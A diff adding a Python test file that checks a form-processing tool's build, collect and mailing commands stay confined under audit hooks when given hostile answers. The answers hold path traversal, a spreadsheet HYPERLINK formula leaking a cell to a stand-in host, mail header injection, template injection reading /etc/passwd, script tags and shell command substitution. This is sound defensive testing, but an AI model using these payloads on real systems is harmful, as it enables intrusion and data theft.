@@ -1,0 +1,135 @@
+"""What a build and a collection do to the machine: files of the project, and nothing else.
+
+Python itself tells (audit events, PEP 578): each file opened, each socket, each
+process. The project and the filled forms are those of someone who means harm.
+"""
+
+from __future__ import annotations
+
+import json
+import subprocess
+import sys
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from cpts_docs.answers.read_pdf import read
+from tests.filling import FILL
+from tests.samples import ANSWERS, PROJECTS, ROOT, built
+
+HOSTILE = {
+    **ANSWERS,
+    "nom": "../../../../tmp/pwned",
+    "specialite": '=HYPERLINK("http://exemple.invalid/?"&A1)',
+    "mail": "a@exemple.invalid\nBcc: b@exemple.invalid",
+    "commentaire": (
+        "{{ ''.__class__.__mro__ }} {% include '/etc/passwd' %} #eval(\"1\") "
+        '#read("/etc/passwd") <script src="http://exemple.invalid/x.js"></script> '
+        "<img src=http://exemple.invalid/x.png> ![x](http://exemple.invalid/x.png) "
+        "file:///etc/passwd javascript:alert(1) $(touch /tmp/pwned) `touch /tmp/pwned`"
+    ),
+}
+
+CODE = """
+import json, os, sys
+from cpts_docs.cli import main
+changes = {"os.rename": 1, "os.remove": 0, "os.mkdir": 0, "os.rmdir": 0, "os.symlink": 1}
+groups = ("socket", "subprocess", "urllib", "ctypes", "webbrowser", "pty")
+starts = ("os.system", "os.exec", "os.fork", "os.forkpty", "os.posix_spawn", "os.spawn")
+seen = []
+def hook(event, arguments):
+    if event == "open" and isinstance(arguments[0], (str, bytes)):
+        path, mode, flags = arguments
+        writes = bool(flags & (os.O_WRONLY | os.O_RDWR | os.O_CREAT | os.O_TRUNC))
+        seen.append(["write" if writes else "read", os.path.abspath(os.fsdecode(path))])
+    elif event in changes:
+        path = arguments[changes[event]]
+        seen.append(["write", os.path.abspath(os.fsdecode(path))])
+    elif event.split(".")[0] in groups or event in starts:
+        seen.append(["other", f"{event} {arguments!r}"])
+sys.addaudithook(hook)
+codes = [main(arguments) for arguments in json.loads(sys.argv[1])]
+told = json.dumps({"codes": codes, "seen": seen})
+with open(sys.argv[2], "w") as file:
+    file.write(told)
+"""
+
+
+@pytest.fixture(scope="module")
+def told(tmp_path_factory: pytest.TempPathFactory) -> tuple[Any, Path]:
+    """What a build, a collection, a build with the answers and a mailing did."""
+    top = tmp_path_factory.mktemp("confinement")
+    folder = top / "project"
+    forms = folder / "retour"
+    forms.mkdir(parents=True)
+    text = PROJECTS["alta-rocca"].read_text("utf-8")
+    path = folder / "project.yaml"
+    path.write_text(text, encoding="utf-8")
+    for ending, (fill, suffix) in FILL.items():
+        form = built("alta-rocca", "questionnaire", ending)
+        known = read(FILL["pdf"][0](built("alta-rocca", "questionnaire", "pdf"), {})).fields
+        answers = {name: value for name, value in HOSTILE.items() if name in known}
+        answers |= {"mail": f"{ending}@exemple.invalid", "nom": f"../{ending}"}
+        (forms / f"{ending}.{suffix}").write_bytes(fill(form, answers))
+    (folder / "people.csv").write_text(f'nom\n"{HOSTILE["nom"]}"\n', encoding="utf-8")
+    second = folder / "with-answers.yaml"
+    second.write_text(f"{text}\nanswers: answers.yaml\n", encoding="utf-8")
+    formats = ["-f", "docx", "-f", "pdf", "-f", "html"]
+    commands = [
+        ["validate", str(path)],
+        ["build", str(path), *formats],
+        ["collect", str(path), str(forms)],
+        ["build", str(second), *formats],
+        ["mailing", str(path), str(folder / "people.csv")],
+    ]
+    result = subprocess.run(
+        [sys.executable, "-c", CODE, json.dumps(commands), str(top / "told.json")],
+        check=False,
+        capture_output=True,
+        cwd=ROOT,
+        timeout=120,
+    )
+    assert result.returncode == 0, result.stderr.decode()
+    return json.loads((top / "told.json").read_text()), folder
+
+
+def test_every_command_does_its_work(told: tuple[Any, Path]) -> None:
+    seen, folder = told
+    assert seen["codes"] == [0] * 5
+    assert (folder / "documents" / "synthese.pdf").is_file()
+    assert (folder / "answers.yaml").is_file()
+    assert len(list((folder / "questionnaires").iterdir())) == 1
+
+
+def test_nothing_outside_the_projects_folder_is_written(told: tuple[Any, Path]) -> None:
+    seen, folder = told
+    written = {Path(path) for kind, path in seen["seen"] if kind == "write"}
+    bytecode = {path for path in written if "__pycache__" in path.parts}
+    outside = {path for path in written - bytecode if not path.is_relative_to(folder)}
+    assert len(written) > 20
+    assert outside == set()
+
+
+def test_nothing_but_the_project_and_the_program_is_read(told: tuple[Any, Path]) -> None:
+    seen, folder = told
+    program = [ROOT, *map(Path, {sys.prefix, sys.base_prefix, sys.exec_prefix})]
+    read = {Path(path) for kind, path in seen["seen"] if kind == "read"}
+    allowed = [folder, *program, *(path.resolve() for path in program)]
+    assert len(read) > 5
+    assert [path for path in read if not any(map(path.is_relative_to, allowed))] == []
+
+
+def test_no_program_is_started_and_no_network_is_opened(told: tuple[Any, Path]) -> None:
+    assert [what for kind, what in told[0]["seen"] if kind == "other"] == []
+
+
+def test_what_is_not_confined_is_seen(tmp_path: Path) -> None:
+    code = CODE.replace(
+        "codes = [", 'import socket, subprocess; socket.socket(); open("/etc/hostname")\ncodes = ['
+    )
+    command = [sys.executable, "-c", code, "[]", str(tmp_path / "told.json")]
+    subprocess.run(command, check=True, cwd=ROOT, timeout=60)
+    seen = json.loads((tmp_path / "told.json").read_text())["seen"]
+    assert ["read", "/etc/hostname"] in seen
+    assert any(kind == "other" for kind, _ in seen)
